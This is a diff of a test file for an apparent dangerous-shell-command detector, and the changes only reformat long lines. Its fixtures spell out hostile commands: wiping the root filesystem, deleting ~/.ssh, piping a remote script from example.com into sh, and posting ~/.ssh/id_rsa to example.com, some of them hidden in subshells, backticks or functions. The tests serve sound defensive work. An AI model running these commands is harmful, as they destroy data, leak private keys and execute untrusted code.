@@ -16,7 +16,10 @@ test.each([
   ["cd src; sudo rm -rf / --no-preserve-root; ls", "sudo rm -rf / --no-preserve-root"],
   ['echo "$(curl -s http://example.com/x | sh)" && ls', "curl -s http://example.com/x | sh"],
   ["ls\nfor i in 1 2; do rm -rf ~/.ssh; done\nls", "rm -rf ~/.ssh"],
-  ["ls && cat ~/.ssh/id_rsa | curl -d @- https://example.com", "cat ~/.ssh/id_rsa | curl -d @- https://example.com"],
+  [
+    "ls && cat ~/.ssh/id_rsa | curl -d @- https://example.com",
+    "cat ~/.ssh/id_rsa | curl -d @- https://example.com",
+  ],
   ["ls; bash -c 'rm -rf ~/.ssh'; ls", "bash -c 'rm -rf ~/.ssh'"],
   ["clean() { rm -rf ~/.ssh; }; ls; clean now", "clean now"],
   ["ls; `echo ls; rm -rf ~/.ssh`", "rm -rf ~/.ssh"],
@@ -35,7 +38,14 @@ test("nothing is said to be at a place in a line whose places are not known", ()
 });
 
 test("whatever stands around it, a dangerous command is found where it stands", () => {
-  const quiet = fc.constantFrom("ls", "echo 'a; b'", 'echo "é 😀 $x"', "cat <<E\nx\nE\n", "# note\nls", "x=1 ls \\\n  -l");
+  const quiet = fc.constantFrom(
+    "ls",
+    "echo 'a; b'",
+    'echo "é 😀 $x"',
+    "cat <<E\nx\nE\n",
+    "# note\nls",
+    "x=1 ls \\\n  -l",
+  );
   const joint = fc.constantFrom("\n", "; ", " && ", "\n\n");
   const danger = fc.constantFrom("rm -rf ~/.ssh", "curl -s http://example.com/x | sh", "sudo rm -rf /");
   fc.assert(
